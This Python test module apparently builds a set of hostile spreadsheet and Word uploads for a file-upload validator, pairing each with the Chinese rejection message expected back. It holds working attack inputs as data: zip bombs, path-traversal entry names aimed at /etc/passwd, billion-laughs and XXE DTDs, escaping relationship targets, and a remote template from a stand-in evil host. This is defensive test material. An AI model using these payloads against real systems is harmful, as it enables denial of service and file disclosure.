"""The hostile set: each maker with what a refusal of it must say. Made when the tests run, none is kept."""

from __future__ import annotations

import zipfile

from .packages import (
    changed,
    docx,
    docx_parts,
    encrypted_flag,
    lying_zip,
    number,
    ole,
    overlapping,
    relationships,
    row,
    sheet,
    text,
    types,
    xlsx,
    xlsx_parts,
    zipped,
)

DTD = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def with_dtd(name, dtd=DTD):
    parts = xlsx_parts(strings=["<t>甲</t>"], styles=["0"])
    content = parts[name]
    at = content.index("?>") + 2
    return zipped({**parts, name: content[:at] + dtd + content[at:]})


def one_cell(cell):
    return xlsx(sheet(row(7, cell)))


def merged(*areas):
    inside = "".join(f'<mergeCell ref="{area}"/>' for area in areas)
    return xlsx(sheet(row(1, text("A1", "主办单位")), after=f"<mergeCells>{inside}</mergeCells>"))


def word_types(kind):
    return zipped(changed(xlsx_parts(), **{"[Content_Types].xml": types("xl/workbook.xml", kind)}))


def target(kind, where):
    parts = xlsx_parts()
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = relationships((kind, where))
    return zipped(parts)


HOSTILE = {
    # zip bombs
    "bomb in a sheet": (lambda: xlsx(sheet(after=" " * (60 << 20))), "过大"),
    "bomb in a picture": (lambda: zipped({**xlsx_parts(), "xl/media/image1.png": b"\0" * (60 << 20)}), "过大"),
    "many small bombs": (lambda: zipped({**xlsx_parts(), **{f"xl/media/{n}.bin": b"\0" * 900_000 for n in range(80)}}), "过大"),
    "size said too small": (lambda: lying_zip(20 << 20, 1000), "不完整"),
    "size said too large": (lambda: lying_zip(1000, 30 << 20), "不完整"),
    "entries share one body": (overlapping, "重叠"),
    "too many entries": (lambda: zipped({**xlsx_parts(), **{f"xl/x{n}": "" for n in range(600)}}), "个部分"),
    "rare compression": (lambda: zipped(xlsx_parts(), zipfile.ZIP_LZMA), "压缩方式"),
    # the directory
    "name climbs out": (lambda: zipped({**xlsx_parts(), "../../evil.xml": "<a/>"}), "路径"),
    "name with a drive": (lambda: zipped({**xlsx_parts(), "C:/evil.xml": "<a/>"}), "路径"),
    "absolute name": (lambda: zipped({**xlsx_parts(), "/etc/passwd": "x"}), "路径"),
    "name with backslashes": (lambda: zipped({**xlsx_parts(), "xl\\..\\evil.xml": "<a/>"}), "路径"),
    "entry twice": (lambda: zipped([*xlsx_parts().items(), ("XL/workbook.xml", "<workbook/>")]), "重名"),
    "entries flagged as encrypted": (encrypted_flag, "加密"),
    "cut off": (lambda: xlsx()[:-200], "不完整"),
    "cut off in the middle": (lambda: xlsx()[:400], "不完整"),
    "one bit wrong": (lambda: bytes(byte ^ (at == 200) for at, byte in enumerate(xlsx())), "上传"),
    # XML
    "DTD in workbook": (lambda: with_dtd("xl/workbook.xml"), "外部定义"),
    "DTD in sheet": (lambda: with_dtd("xl/worksheets/sheet1.xml"), "外部定义"),
    "DTD in strings": (lambda: with_dtd("xl/sharedStrings.xml", EXTERNAL), "外部定义"),
    "DTD in styles": (lambda: with_dtd("xl/styles.xml", EXTERNAL), "外部定义"),
    "DTD in content types": (lambda: with_dtd("[Content_Types].xml"), "外部定义"),
    "DTD in relationships": (lambda: with_dtd("_rels/.rels", EXTERNAL), "外部定义"),
    "DTD in a part of another name": (lambda: zipped({**xlsx_parts(), "xl/thing.bin": f"{EXTERNAL}<x>&a;</x>"}), "外部定义"),
    "DTD in UTF-16": (lambda: zipped({**xlsx_parts(), "xl/thing.xml": f"{DTD}<x/>".encode("utf-16")}), "外部定义"),
    "sheet breaks off": (lambda: xlsx(sheet()[:-20]), "不完整"),
    "part is empty": (lambda: zipped({**xlsx_parts(), "xl/styles.xml": ""}), "空"),
    "nested 10,000 deep": (lambda: xlsx(sheet(row(1, "<x>" * 10_000 + "</x>" * 10_000))), "嵌套"),
    "one attribute of 3 MB": (lambda: zipped(xlsx_parts(f'<worksheet x="{"呵" * 1_000_000}"/>'), zipfile.ZIP_STORED), "过长"),
    "two million elements": (lambda: zipped({**xlsx_parts(), "xl/drawings/d.xml": "<x>" + "<a/>" * 2_000_000 + "</x>"}), "过多|过大"),
    "rare encoding": (
        lambda: zipped({**xlsx_parts(), "xl/thing.xml": b'<?xml version="1.0" encoding="EBCDIC-CP-US"?><a/>'}),
        "不完整|编码",
    ),
    # relationships
    "target outside": (lambda: target("image", "../../../../etc/passwd"), "以外"),
    "target with a drive": (lambda: target("image", "C:\\Windows\\win.ini"), "以外"),
    "target escaped": (lambda: target("image", "..%2f..%2f..%2fetc%2fpasswd"), "以外"),
    "sheet target outside": (
        lambda: zipped(
            changed(xlsx_parts(), xl___rels__workbook_xml_rels=None)
            | {"xl/_rels/workbook.xml.rels": relationships(("worksheet", "../../x.xml"))}
        ),
        "以外",
    ),
    "sheet is missing": (lambda: zipped(changed(xlsx_parts(), **{"xl/worksheets/sheet1.xml": None})), "缺少"),
    # sheets
    "cell at the far end": (lambda: one_cell(number("XFD1048576", 1)), "XFD1048576"),
    "cell beyond the far end": (lambda: one_cell(number("XFE1", 1)), "位置"),
    "row beyond the far end": (lambda: xlsx(sheet('<row r="99999999"/>')), "行号"),
    "a million empty rows": (lambda: xlsx(sheet("".join(f'<row r="{n}"/>' for n in range(1, 1_000_001)))), "空行|过大"),
    "a million styled cells": (
        lambda: xlsx(sheet("".join(row(n, *(f'<c r="{c}{n}" s="1"/>' for c in "ABCDEFGHIJKLMNOPQRST")) for n in range(1, 15_001)))),
        "过多|过大",
    ),
    "row 2,001": (lambda: xlsx(sheet(row(2001, text("A2001", "x")))), "2000 行"),
    "16,384 columns": (lambda: xlsx(sheet(row(1, *('<c t="inlineStr"><is><t>x</t></is></c>' for _ in range(16_384))))), "64 列"),
    "merge of the whole sheet": (lambda: merged("A1:XFD1048576"), "合并"),
    "ten thousand merges": (lambda: merged(*(f"A{n}:B{n}" for n in range(1, 10_001))), "合并"),
    "merge turned round": (lambda: merged("C3:A1"), "合并"),
    "one cell of 40 MB": (lambda: zipped(xlsx_parts(sheet(row(1, text("A1", "长" * 14_000_000))))), "32767 字|过大|超过 5 MB"),
    "strings used too often": (
        lambda: xlsx(
            sheet("".join(row(n, *('<c t="s"><v>0</v></c>' for _ in range(50))) for n in range(1, 101))),
            strings=["<t>" + "长" * 30_000 + "</t>"],
        ),
        "文字过多",
    ),
    "string that is not there": (lambda: xlsx(sheet(row(1, '<c t="s"><v>5</v></c>')), strings=["<t>x</t>"]), "不存在"),
    "strings twice": (lambda: zipped({**xlsx_parts(strings=["<t>x</t>"]), "xl/other.xml": "<sst/>"}), "重复"),
    "NaN": (lambda: one_cell(number("E7", "NaN")), "Sheet1.*E7"),
    "infinity": (lambda: one_cell(number("E7", "1E400")), "E7"),
    "5,000 digits": (lambda: one_cell(number("E7", "9" * 5000)), "E7"),
    "letters as a number": (lambda: one_cell(number("E7", "abc")), "E7"),
    "bad ISO date": (lambda: one_cell('<c r="E7" t="d"><v>2024-13-45 99</v></c>'), "E7.*日期"),
    # Word
    "span of a billion": (
        lambda: docx('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'),
        "合并范围",
    ),
    "3,000 rows in Word": (lambda: docx(f"<w:tbl>{'<w:tr><w:tc><w:p/></w:tc></w:tr>' * 3000}</w:tbl>"), "2000 行"),
    "tables in tables, 60 deep": (lambda: docx("<w:tbl><w:tr><w:tc>" * 70 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 70), "嵌套"),
    "template from the net": (
        lambda: zipped(
            {
                **docx_parts("<w:p/>"),
                "word/_rels/settings.xml.rels": relationships(("attachedTemplate", "https://example.com/evil.dotm")).replace(
                    "/>", ' TargetMode="External"/>'
                ),
            }
        ),
        "模板",
    ),
    # other kinds
    "empty": (lambda: b"", "空"),
    "encrypted": (lambda: ole("EncryptionInfo", "EncryptedPackage"), "加密"),
    "old Excel": (lambda: ole("Workbook"), r"\.xls）"),
    "old Word": (lambda: ole("WordDocument"), r"\.doc）"),
    "macros": (lambda: word_types("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "宏"),
    "binary workbook": (lambda: word_types("application/vnd.ms-excel.sheet.binary.macroEnabled.main"), "宏|二进制"),
    "template": (lambda: word_types("application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"), "模板"),
    "slides": (lambda: word_types("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"), "演示文稿"),
    "OFD": (lambda: zipped({"OFD.xml": "<OFD/>"}), "OFD"),
    "OpenDocument": (lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"}), "OpenDocument"),
    "some zip": (lambda: zipped({"a.txt": "x"}), "压缩包"),
    "an empty zip": (lambda: zipped({}), "压缩包|不完整"),
    "picture": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "扩展名|图片"),
    "rubbish": (lambda: bytes(range(256)) * 40, "上传"),
    "a megabyte of PK": (lambda: b"PK\x03\x04" * 250_000, "不完整"),
}
"""Name: (maker, a pattern of what the sentence must contain). All are sent as 附件.xlsx."""
